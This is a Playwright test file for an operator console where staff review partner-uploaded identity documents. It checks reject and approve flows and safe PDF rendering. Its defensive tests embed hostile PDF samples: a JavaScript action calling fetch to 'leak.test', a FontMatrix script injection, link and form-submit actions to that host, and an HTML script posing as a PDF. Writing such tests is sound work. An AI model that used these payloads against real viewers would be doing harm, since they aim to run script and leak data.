import { getDocument, getDocuments } from '@partner-office/contracts'
import type { Frame, Page } from '@playwright/test'

import { pdfOf, samplePdf } from '../../apps/server/src/testing/sample-files.ts'
import { failCall, slowCall } from '../faults.ts'
import { expectAsWritten as expect, test } from '../fixtures.ts'
import { passportAddress } from '../http.ts'
import { makePartner, type Partner } from '../partners.ts'
import { png } from '../png.ts'
import { COULD_NOT } from '../page-checks.ts'
import { consoleAddress, giveConsole, makeOperator, type Operator } from './operator.ts'
import { expectSound } from './sound.ts'

let operator: Operator
test.beforeAll(async () => {
  operator = await makeOperator(['support'])
})
test.beforeEach(({ context }) => giveConsole(context, operator))

/** Sends a document in as a partner. */
async function send({ token }: Partner, name: string, bytes: Buffer, surname = 'Lovelace') {
  const form = new FormData()
  form.set('name', 'Ada')
  form.set('surname', surname)
  form.append('files', new Blob([new Uint8Array(bytes)]), name)
  const answer = await fetch(passportAddress('/v1/verifications/PASSPORT'), {
    method: 'POST',
    headers: { authorization: `Bearer ${token}` },
    body: form,
  })
  expect(((await answer.json()) as { state: string }).state).toBe('success')
}

async function openDocument(page: Page, { id }: Partner): Promise<void> {
  await page.goto(consoleAddress(`/documents?partner=${id}`))
  await page
    .getByRole('row', { name: /Ada Byron/ })
    .getByRole('link', { name: 'Identity document' })
    .click()
  await expect(page.getByRole('heading', { name: 'Identity document', level: 1 })).toBeVisible()
}

test('DOC-001 DOC-002 DOC-003 a document is looked at, compared and rejected, and sent again it says what has changed', async ({
  page,
}) => {
  const partner = await makePartner({ name: 'Ada Byron' })
  await send(partner, 'front.png', png(40, 30))
  await openDocument(page, partner)
  const picture = page.getByRole('img', { name: 'Picture of the file front.png' })
  await expect(picture).toBeVisible()
  await expect
    .poll(() => picture.evaluate((image: HTMLImageElement) => image.naturalWidth))
    .toBe(40)
  const name = page.getByRole('row', { name: /^Last name/ })
  await expect(name).toContainText('Different')
  await expect(page.getByRole('row', { name: /^First name/ })).toContainText('Same')
  await page.getByRole('button', { name: 'Turn' }).click()
  await page.getByRole('button', { name: 'Larger' }).click()
  await expect(page.getByText('150 %, turned by 90°')).toBeVisible()
  await expectSound(page)
  await page.getByRole('textbox', { name: 'If you reject: why' }).fill('The last name differs.')
  await page.getByRole('button', { name: 'Reject' }).click()
  await expect(page.getByText('The document is rejected, and its files are deleted.')).toBeVisible()

  await send(partner, 'front.png', png(40, 30), 'Byron')
  await page.goto(consoleAddress(`/documents?partner=${partner.id}`))
  const row = page.getByRole('row', { name: /Ada Byron/ })
  await expect(row).toContainText('Sent 2 times')
  await expect(row.locator('del')).toHaveText('Lovelace')
  await expectSound(page)
  await openDocument(page, partner)
  await page.getByRole('button', { name: 'Approve' }).click()
  await expect(page.getByText('The document is approved.')).toBeVisible()
})

test('DOC-003 a document that was decided meanwhile is not decided again', async ({ page }) => {
  const partner = await makePartner({ name: 'Ada Byron' })
  await send(partner, 'front.pdf', samplePdf())
  await openDocument(page, partner)
  const other = await page.context().newPage()
  await openDocument(other, partner)
  await other.getByRole('button', { name: 'Approve' }).click()
  await expect(other.getByText('The document is approved.')).toBeVisible()
  await page.getByRole('button', { name: 'Approve' }).click()
  await expect(page.getByText('It is APPROVED.')).toBeVisible()
})

test('SCR-001 SCR-002 documents: loading, none, error', async ({ page }) => {
  const arrive = await slowCall(page, getDocuments.path)
  await page.goto(consoleAddress('/documents?partner=999999999'))
  await expectSound(page)
  await arrive()
  await expect(page.getByText('No documents.')).toBeVisible()
  await expectSound(page)
  await failCall(page, getDocument.path.replace(':id', '999'), {
    code: 'internal_server_error',
    status: 500,
  })
  await page.goto(consoleAddress('/documents/999'))
  await expect(page.getByText(COULD_NOT)).toBeVisible()
  await expectSound(page)
})

/** PDF files that would run a script, open an address or read a file, in a viewer that lets them. */
const HOSTILE: Readonly<Record<string, Buffer>> = {
  'a script at the opening': samplePdf(
    '<</Type/Action/S/JavaScript/JS(app.alert\\(1\\);fetch\\("http://leak.test"\\))>>',
  ),
  'a script in the matrix of a font': samplePdf(
    '<</Type/Font/Subtype/Type1/FontMatrix[1 2 3 4 5 (0\\); globalThis.hacked = 1//)]>>',
  ),
  'a link and a form': samplePdf(
    '<</Type/Annot/Subtype/Link/Rect[0 0 9 9]/A<</S/URI/URI(http://leak.test/)>>>><</S/SubmitForm/F(http://leak.test)>>',
  ),
}

/** Answers the file of a document with other bytes, as if the checks of uploads had let them in. */
const answerPdf = (page: Page, body: Buffer) =>
  page.route(/\/console\/v1\/files\/[^/]+\/pdf/, (route) =>
    route.fulfill({ body, contentType: 'application/pdf' }),
  )

for (const [name, bytes] of Object.entries(HOSTILE)) {
  test(`INB-006 a hostile PDF runs nothing and calls nobody: ${name}`, async ({ page }) => {
    const partner = await makePartner({ name: 'Ada Byron' })
    await send(partner, 'front.pdf', samplePdf())
    await answerPdf(page, bytes)
    const left: string[] = []
    const host = new URL(consoleAddress()).host
    page.on('request', (request) => {
      if (new URL(request.url()).host !== host) left.push(request.url())
    })
    page.on('dialog', (dialog) => {
      left.push(dialog.message())
      void dialog.dismiss()
    })
    await openDocument(page, partner)
    await expect(page.getByText('One page')).toBeVisible()
    const frame = page.frame({ url: /pdf-frame/ })!
    await expect(frame.getByRole('img', { name: 'Page 1 of 1' })).toBeVisible()
    const seen = await frame.evaluate(async () => ({
      origin: self.origin,
      hacked: 'hacked' in globalThis,
      links: document.querySelectorAll('a, form, iframe, script[src]').length,
      call: await fetch('/console/v1/me').then(
        () => 'left',
        () => 'blocked',
      ),
      storage: (() => {
        try {
          return String(localStorage.length)
        } catch {
          return 'none'
        }
      })(),
    }))
    expect(seen).toEqual({
      origin: 'null',
      hacked: false,
      links: 0,
      call: 'blocked',
      storage: 'none',
    })
    expect(left).toEqual([])
  })
}

/** A PDF with a word in a font that it only names. */
const pdfWith = (font: string): Buffer => {
  const text = 'BT /F1 40 Tf 10 40 Td (Ada) Tj ET'
  return pdfOf({
    objects: [
      '<</Type/Catalog/Pages 2 0 R>>',
      '<</Type/Pages/Kids[3 0 R]/Count 1>>',
      '<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 100]/Contents 4 0 R/Resources<</Font<</F1 5 0 R>>>>>>',
      `<</Length ${text.length}>>stream\n${text}\nendstream `,
      `<</Type/Font${font}>>`,
    ],
  })
}

/** How many pixels of the first page are dark. */
const darkPixels = (frame: Frame): Promise<number> =>
  frame.evaluate(() => {
    const canvas = document.querySelector('canvas')!
    const { data } = canvas.getContext('2d')!.getImageData(0, 0, canvas.width, canvas.height)
    return data.filter((value, at) => at % 4 === 0 && value < 128).length
  })

test('INB-006 text in a font that the file names without holding it is drawn', async ({ page }) => {
  const partner = await makePartner({ name: 'Ada Byron' })
  await send(partner, 'front.pdf', samplePdf())
  // One of the fonts that every viewer has, and a name that stands for another one.
  for (const font of ['Times-Roman', 'Arial-BoldMT']) {
    await answerPdf(page, pdfWith(`/Subtype/Type1/BaseFont/${font}`))
    await openDocument(page, partner)
    await expect(page.getByText('One page')).toBeVisible()
    expect(await darkPixels(page.frame({ url: /pdf-frame/ })!), font).toBeGreaterThan(100)
  }
})

test('INB-006 an encoding that the file names without holding it comes from the build', async ({
  page,
}) => {
  const partner = await makePartner({ name: 'Ada Byron' })
  await send(partner, 'front.pdf', samplePdf())
  const descendant =
    '<</Type/Font/Subtype/CIDFontType0/BaseFont/Ryumin-Light/CIDSystemInfo<</Registry(Adobe)/Ordering(Japan1)/Supplement 2>>/FontDescriptor<</Type/FontDescriptor/FontName/Ryumin-Light/Flags 4>>>>'
  await answerPdf(
    page,
    pdfWith(
      `/Subtype/Type0/BaseFont/Ryumin-Light/Encoding/UniJIS-UCS2-H/DescendantFonts[${descendant}]`,
    ),
  )
  const encoding = page.waitForResponse(/\/console\/pdf\/UniJIS-UCS2-H\.bcmap$/)
  await openDocument(page, partner)
  expect((await encoding).status()).toBe(200)
  await expect(page.getByText('One page')).toBeVisible()
})

test('INB-006 what is no PDF is not drawn, and the original is a download behind a warning', async ({
  page,
}) => {
  const partner = await makePartner({ name: 'Ada Byron' })
  await send(partner, 'front.pdf', samplePdf())
  await answerPdf(page, Buffer.from('<html><script>top.hacked = 1</script>'))
  await openDocument(page, partner)
  await expect(page.getByText('This PDF cannot be drawn.')).toBeVisible()
  expect(await page.evaluate(() => 'hacked' in globalThis)).toBe(false)
  await page.getByRole('button', { name: 'Download the original' }).click()
  await expect(page.getByText(/comes from a partner and was not made safe/)).toBeVisible()
  await expectSound(page)
  const download = page.waitForEvent('download')
  await page.getByRole('button', { name: 'Download it anyway' }).click()
  expect((await download).suggestedFilename()).toMatch(/^document-\d+\.pdf$/)
})
